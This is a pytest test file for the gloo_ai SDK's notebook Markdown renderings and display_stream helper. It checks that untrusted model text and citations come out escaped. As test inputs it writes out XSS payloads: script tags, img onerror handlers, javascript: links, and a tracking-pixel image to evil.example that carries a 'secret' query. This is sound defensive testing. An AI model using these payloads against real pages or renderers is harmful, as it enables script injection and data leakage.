"""Notebook renderings (``_repr_markdown_``) and `display_stream`, against the emulator.

The model's text and a citation's fields are untrusted: the renderings must not let them
inject HTML, load a remote image, link to a ``javascript:`` URL or break a table.
"""

from __future__ import annotations

import io
import sys
import types
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from gloo_ai import AsyncGloo, InvalidArgumentError, display_stream
from gloo_ai import _display as md
from gloo_ai.testing import GlooEmulator
from gloo_ai.types.chat import ChatCompletion, GroundedChatCompletion
from gloo_ai.types.models import ModelCatalog
from gloo_ai.types.responses import Response

MESSAGES = [{"role": "user", "content": "How can I find peace in anxious times?"}]
V2 = "/ai/v2/chat/completions"
HOSTILE = (
    "Hello <script>alert(1)</script> <img src=x onerror=alert(2)> &amp; "
    "![pixel](https://evil.example/track.png?q=secret) and *emphasis*\n\n"
    "```python\nif a < b:\n    pass\n```\nafter <b>bold</b>"
)


@pytest.fixture
def emulator() -> GlooEmulator:
    return GlooEmulator()


@pytest_asyncio.fixture
async def client(emulator: GlooEmulator) -> AsyncIterator[AsyncGloo]:
    async with emulator.client() as gloo:
        yield gloo


def _completion(content: str | None, **fields: Any) -> ChatCompletion:
    return ChatCompletion.model_validate(
        {
            "model": "gloo-openai-gpt-5.2",
            "choices": [{"message": {"content": content}, "finish_reason": "stop"}],
            **fields,
        }
    )


# -- the pure builders -------------------------------------------------------------------------


def test_answer_text_keeps_markdown_but_no_html_or_images() -> None:
    out = md.answer_text(HOSTILE)
    assert "<script" not in out
    assert "<img" not in out
    assert "<b>" not in out
    assert "![" not in out
    assert "*emphasis*" in out  # the answer's own Markdown is kept
    assert "&amp;amp;" in out  # an entity in the text is shown as written
    assert "```python\nif a < b:\n    pass\n```" in out  # code is shown as written


def test_an_unclosed_fence_does_not_shelter_html() -> None:
    out = md.answer_text("```\n<img src=x onerror=alert(1)>")
    assert "<img" not in out
    # a longer closing fence closes the block, as Markdown closes it
    out = md.answer_text("```\ncode\n`````\n<img src=x>\n```")
    assert "<img" not in out


def test_inline_escapes_table_breakers_and_cuts_long_text() -> None:
    out = md.inline("a | b\n<c> [x](javascript:y) " + "z" * 500)
    assert "\n" not in out
    assert " | " not in out.replace("\\|", "")
    assert "<c>" not in out
    assert "](" not in out
    assert len(out) < 260
    assert out.endswith("…")


def test_links_are_made_of_http_urls_only() -> None:
    assert md.link("Title", "https://example.org/a?b=1") == "[Title](https://example.org/a?b=1)"
    assert "](" not in md.link("Title", "javascript:alert(1)")
    assert "](" not in md.link("Title", "https://example.org/a) [x](javascript:alert(1)")
    assert md.link(None, None) == "*(untitled)*"


def test_code_spans_survive_backticks() -> None:
    assert md.code("a`b") == "``a`b``"
    assert md.code("`x") == "`` `x ``"


# -- the models' renderings --------------------------------------------------------------------


@pytest.mark.asyncio
async def test_a_completion_renders_its_answer_model_routing_and_usage(client: AsyncGloo) -> None:
    completion = await client.chat.completions.create(messages=MESSAGES, tradition="catholic")
    out = completion._repr_markdown_()
    content = completion.choices[0].message.content
    assert content
    assert out.startswith(md.answer_text(content))
    for fact in ("`gloo-openai-gpt-5.2`", "auto\\_routing", "Gloo AI", "catholic", "stop"):
        assert fact in out
    assert completion.routing_tier is not None
    assert completion.routing_tier.replace("_", "\\_") in out
    usage = completion.usage
    assert usage is not None
    assert f"{usage.prompt_tokens} + {usage.completion_tokens} = {usage.total_tokens}" in out
    assert out.count("\n") >= 3  # not a one-line repr
    assert repr(completion).startswith("ChatCompletion(")  # repr() is unchanged
    assert "|---|" not in repr(completion)


def test_a_hostile_completion_renders_escaped() -> None:
    completion = _completion(HOSTILE, tradition="<b>x</b>", routing_tier="t|1")
    out = completion._repr_markdown_()
    assert "<script" not in out
    assert "<b>" not in out
    assert "![" not in out
    assert "t\\|1" in out


def test_refusals_tool_calls_and_several_choices_render() -> None:
    completion = ChatCompletion.model_validate(
        {
            "choices": [
                {"index": 0, "message": {"refusal": "I can't <b>help</b>"}},
                {
                    "index": 1,
                    "message": {
                        "tool_calls": [
                            {"id": "c1", "function": {"name": "lookup", "arguments": '{"q":1}'}}
                        ]
                    },
                },
            ]
        }
    )
    out = completion._repr_markdown_()
    assert "**Choice 0**" in out
    assert "**Choice 1**" in out
    assert "**Refusal:** I can't &lt;b\\>help&lt;/b\\>" in out
    assert '**Tool call** `lookup` `{"q":1}`' in out
    assert "*(no text)*" not in out
    assert "model" not in out.split("\n")[-1]  # no model was sent: no model column


@pytest.mark.asyncio
async def test_a_grounded_completion_renders_its_citations(client: AsyncGloo) -> None:
    grounded = await client.chat.grounded.create(messages=MESSAGES, include_citations=True)
    out = grounded._repr_markdown_()
    assert grounded.citations
    assert f"**Sources** ({len(grounded.citations)})" in out
    first = grounded.citations[0]
    assert first.item_url is not None
    assert f"]({first.item_url})" in out
    assert "auto\\_routing" in out
    plain = await client.chat.grounded.create(messages=MESSAGES)
    assert "*Retrieval found sources.*" in plain._repr_markdown_()


def test_hostile_citations_render_escaped() -> None:
    grounded = GroundedChatCompletion.model_validate(
        {
            "choices": [{"message": {"content": "ok"}}],
            "citations": [
                {
                    "item_title": "A [title](javascript:alert(1)) <img src=x>",
                    "item_url": "javascript:alert(1)",
                    "snippets": ["<script>x</script>\nsecond line"],
                }
            ],
        }
    )
    out = grounded._repr_markdown_()
    assert "](javascript" not in out
    assert "<img" not in out
    assert "<script" not in out
    assert "1. A \\[title\\]" in out


@pytest.mark.asyncio
async def test_a_response_renders_its_text_model_and_usage(client: AsyncGloo) -> None:
    response = await client.responses.create(model="gloo-openai-gpt-5.2", input="Hello")
    out = response._repr_markdown_()
    assert out.startswith(md.answer_text(response.output_text))
    assert "`gloo-openai-gpt-5.2`" in out
    assert "completed" in out
    assert response.usage is not None
    assert f"= {response.usage.total_tokens}" in out
    failed = Response.model_validate(
        {"status": "failed", "error": {"code": "x", "message": "<b>no</b>"}}
    )
    assert "x: &lt;b\\>no&lt;/b\\>" in failed._repr_markdown_()


@pytest.mark.asyncio
async def test_the_model_list_renders_one_row_per_model(client: AsyncGloo) -> None:
    catalog = await client.models.list()
    out = catalog._repr_markdown_()
    assert out.startswith(f"**{len(catalog)} models**")
    assert out.count("\n| `gloo-") == len(catalog)
    model = catalog.data[0]
    assert model._repr_markdown_().count("\n") == 2  # header, rule, one row
    assert ModelCatalog()._repr_markdown_().startswith("**0 models**")


# -- display_stream ---------------------------------------------------------------------------


@pytest.mark.asyncio
async def test_display_stream_prints_outside_a_notebook(
    client: AsyncGloo, emulator: GlooEmulator
) -> None:
    out = io.StringIO()
    final = await display_stream(client.chat.completions.stream(messages=MESSAGES), file=out)
    content = final.choices[0].message.content
    assert out.getvalue() == f"{content}\n"
    assert final.routing_mechanism == "auto_routing"
    assert emulator.counts[V2] == 1


class _FakeHandle:
    def __init__(self, updates: list[Any]) -> None:
        self.updates = updates

    def update(self, obj: Any) -> None:
        self.updates.append(obj)


@pytest.fixture
def kernel(monkeypatch: pytest.MonkeyPatch) -> dict[str, list[Any]]:
    """A fake IPython kernel: what was displayed, and each update of the one output."""
    seen: dict[str, list[Any]] = {"displayed": [], "updates": []}

    class Markdown:
        def __init__(self, data: str) -> None:
            self.data = data

    def display(obj: Any, display_id: bool = False) -> _FakeHandle:
        assert display_id is True
        seen["displayed"].append(obj)
        return _FakeHandle(seen["updates"])

    shell = types.SimpleNamespace(kernel=object())
    ipython = types.ModuleType("IPython")
    ipython.get_ipython = lambda: shell  # type: ignore[attr-defined]
    display_module = types.ModuleType("IPython.display")
    display_module.display = display  # type: ignore[attr-defined]
    display_module.Markdown = Markdown  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "IPython", ipython)
    monkeypatch.setitem(sys.modules, "IPython.display", display_module)
    return seen


@pytest.mark.asyncio
async def test_display_stream_updates_one_output_in_a_notebook(
    client: AsyncGloo, kernel: dict[str, list[Any]], capsys: pytest.CaptureFixture[str]
) -> None:
    async with client.chat.completions.stream(messages=MESSAGES) as stream:
        final = await display_stream(stream)
    content = final.choices[0].message.content
    assert content
    assert len(kernel["displayed"]) == 1  # one output
    *texts, last = kernel["updates"]
    assert len(texts) == len(content.split())  # one update per piece (the emulator: a word)
    assert texts[-1].data == md.answer_text(content)
    assert last is final  # the output ends as the completion's own rendering
    assert capsys.readouterr().out == ""  # nothing printed


@pytest.mark.asyncio
async def test_display_stream_takes_grounded_and_responses_streams(
    client: AsyncGloo, emulator: GlooEmulator
) -> None:
    out = io.StringIO()
    grounded = await display_stream(
        client.chat.grounded.stream(messages=MESSAGES, include_citations=True), file=out
    )
    assert isinstance(grounded, GroundedChatCompletion)
    assert grounded.citations
    assert out.getvalue() == f"{grounded.choices[0].message.content}\n"
    out = io.StringIO()
    response = await display_stream(
        client.responses.stream(model="gloo-openai-gpt-5.2", input="Hello"), file=out
    )
    assert isinstance(response, Response)
    assert out.getvalue() == f"{response.output_text}\n"
    assert emulator.counts["/ai/v1/responses"] == 1


@pytest.mark.asyncio
async def test_display_stream_refuses_what_is_not_a_stream(
    client: AsyncGloo, emulator: GlooEmulator
) -> None:
    with pytest.raises(InvalidArgumentError, match=r"display_stream\(\) takes a stream"):
        await display_stream(client.chat.completions.create)  # type: ignore[call-overload]
    assert sum(emulator.counts.values()) == 0  # before any request
